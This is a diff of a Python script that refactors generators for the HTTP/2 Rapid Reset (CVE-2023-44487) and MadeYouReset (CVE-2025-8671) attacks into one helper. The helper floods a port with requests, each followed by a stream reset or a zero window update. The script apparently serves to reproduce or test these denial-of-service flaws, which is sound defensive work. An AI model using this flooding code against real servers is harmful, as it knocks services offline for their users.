@@ -36,20 +36,19 @@ def paced(port, burst, pairs=()):
 
 def rapid_reset(port):
     """CVE-2023-44487: a request, and at once its reset; 1,000 and more a second."""
-
-    def burst(stream):
-        out = b"".join(headers(number, request(b"/slow?ms=50")) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
-                       for number in range(stream, stream + 2 * BURST, 2))
-        return out, stream + 2 * BURST
-
-    paced(port, burst)
+    requests_with(port, RST_STREAM, b"\0\0\0\x08")
 
 
 def made_you_reset(port):
     """CVE-2025-8671: a request, and a frame for which the front must reset the stream itself (a window update of 0)."""
+    requests_with(port, WINDOW_UPDATE, b"\0\0\0\0")
+
+
+def requests_with(port, kind, payload):
+    """Requests without end, each followed by a frame of its stream."""
 
     def burst(stream):
-        out = b"".join(headers(number, request(b"/slow?ms=50")) + frame(WINDOW_UPDATE, 0, number, b"\0\0\0\0")
+        out = b"".join(headers(number, request(b"/slow?ms=50")) + frame(kind, 0, number, payload)
                        for number in range(stream, stream + 2 * BURST, 2))
         return out, stream + 2 * BURST
 
